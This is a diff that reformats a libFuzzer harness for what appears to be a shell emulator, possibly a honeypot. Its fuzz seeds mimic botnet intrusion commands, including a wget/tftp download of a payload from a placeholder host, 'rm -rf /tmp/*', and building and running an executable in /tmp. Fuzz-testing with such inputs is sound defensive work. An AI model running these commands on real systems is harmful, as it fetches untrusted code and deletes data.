@@ -16,14 +16,18 @@ int LLVMFuzzerInitialize(int *argc, char ***argv);
 int LLVMFuzzerTestOneInput(const uint8_t *, size_t);
 
 static const char *const seeds[] = {
-	"cat /bin/echo | head -c 52; dd bs=52 count=1 if=/bin/echo of=/tmp/x; /bin/busybox X",
-	">/tmp/.x && cd /tmp/; cp /bin/echo y; >y; chmod 777 y; echo -ne '\\x7f\\105' >> y; ./y",
-	"while read i; do case \"$i\" in *rw*) echo ${i#* };; esac; done < /proc/mounts",
-	"for i in 1 2 3; do [ $((i%2)) -eq 0 ] && continue || echo \"$i\" | sed 's/\\(.\\)/<\\1>/g'; done",
-	"f() { local x=$1; shift; echo ${x:-d} \"$@\" `echo \\`uname\\``; return $?; }\nf a b 2>&1 &",
-	"cat <<E | grep -E '^(a|b)+$' >> f\nab\nE\nuntil ! true; do :; done\ncat > g\nline\n\4",
-	"x=a.b.c; echo ${x%.*} ${x##*.} ${x/b/*} ${#x} ${x:1:2}; IFS=. ; set -- $x; echo $# $*; printf '%5s|%x' a 9",
-	"if [ -f /bin/wget ]; then wget http://h/p -O q; else tftp -g -l q -r p h; fi; ls -la q; rm -rf /tmp/*",
+        "cat /bin/echo | head -c 52; dd bs=52 count=1 if=/bin/echo of=/tmp/x; /bin/busybox X",
+        ">/tmp/.x && cd /tmp/; cp /bin/echo y; >y; chmod 777 y; echo -ne '\\x7f\\105' >> y; ./y",
+        "while read i; do case \"$i\" in *rw*) echo ${i#* };; esac; done < /proc/mounts",
+        "for i in 1 2 3; do [ $((i%2)) -eq 0 ] && continue || echo \"$i\" | sed "
+        "'s/\\(.\\)/<\\1>/g'; done",
+        "f() { local x=$1; shift; echo ${x:-d} \"$@\" `echo \\`uname\\``; return $?; }\nf a b 2>&1 "
+        "&",
+        "cat <<E | grep -E '^(a|b)+$' >> f\nab\nE\nuntil ! true; do :; done\ncat > g\nline\n\4",
+        "x=a.b.c; echo ${x%.*} ${x##*.} ${x/b/*} ${#x} ${x:1:2}; IFS=. ; set -- $x; echo $# $*; "
+        "printf '%5s|%x' a 9",
+        "if [ -f /bin/wget ]; then wget http://h/p -O q; else tftp -g -l q -r p h; fi; ls -la q; "
+        "rm -rf /tmp/*",
 };
 
 int LLVMFuzzerInitialize(int *argc, char ***argv)
@@ -70,11 +74,17 @@ static void hook_delayed(void *owner, uint32_t delay_ms)
 		abort();
 }
 
-static uint64_t hook_time(void *owner) { return owner ? 1700000000000000u : 0; }
-static uint64_t hook_random(void *owner) { return owner ? 7 : 0; }
+static uint64_t hook_time(void *owner)
+{
+	return owner ? 1700000000000000u : 0;
+}
+static uint64_t hook_random(void *owner)
+{
+	return owner ? 7 : 0;
+}
 
 static const struct shell_hooks hooks = {hook_say,     hook_fetched, hook_captured,
-					 hook_delayed, hook_time,    hook_random};
+                                         hook_delayed, hook_time,    hook_random};
 
 int LLVMFuzzerTestOneInput(const uint8_t *input, size_t n)
 {
@@ -92,7 +102,8 @@ int LLVMFuzzerTestOneInput(const uint8_t *input, size_t n)
 		if (lf && len < SHELL_LINE_MAX)
 			read_u8(&r);
 		owner.said = 0;
-		next = line.len && line.at[0] == 4 ? shell_end_of_input(&shell) : shell_line(&shell, line);
+		next = line.len && line.at[0] == 4 ? shell_end_of_input(&shell)
+		                                   : shell_line(&shell, line);
 		shell_prompt(&shell);
 	}
 	shell_finish(&shell);
